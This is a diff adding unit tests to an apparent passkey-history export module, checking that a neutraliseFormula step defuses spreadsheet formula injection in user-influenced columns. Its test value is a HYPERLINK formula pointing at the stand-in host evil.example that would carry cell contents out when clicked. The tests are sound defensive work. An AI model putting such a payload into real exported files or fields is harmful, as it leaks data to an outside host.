@@ -3,6 +3,7 @@ import {
   entraLogLinks,
   historyRows,
   matchesFilter,
+  neutraliseFormula,
   HISTORY_COLUMNS,
   type HistoryRecord,
 } from '../../src/shared/history';
@@ -48,6 +49,23 @@ describe('history export rows', () => {
     expect(row!.finishedAt).toBe('2026-11-26T09:01:00.000Z');
     expect(row!.requestIds).toBe('a b');
     expect(row!.keyModel).toBe('');
+  });
+
+  /** Each character a spreadsheet starts a formula with, in every text column an outsider can influence. */
+  const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
+  const COLUMNS = ['userDisplayName', 'userPrincipalName', 'passkeyName', 'keyModel', 'error'] as const;
+  const cases = TRIGGERS.flatMap((t) => COLUMNS.map((column) => ({ t: JSON.stringify(t), trigger: t, column })));
+  it.each(cases)('neutralise a cell starting with $t in $column', ({ trigger, column }) => {
+    const value = `${trigger}HYPERLINK("https://evil.example/?"&A1,"Click")`;
+    const [row] = historyRows([rec({ [column]: value })]);
+    expect(row![column]).toBe(`'${value}`);
+  });
+  it('leave ordinary cells as they are', () => {
+    for (const v of ['Megan Bowen', 'YubiKey 5 NFC', '2026-11-26T09:00:00.000Z', "O'Brien", 'a=b', ''])
+      expect(neutraliseFormula(v)).toBe(v);
+    const [row] = historyRows([rec({})]);
+    expect(row!.userDisplayName).toBe('Megan Bowen');
+    expect(row!.time).toBe('2026-11-26T09:00:00.000Z');
   });
 });
 
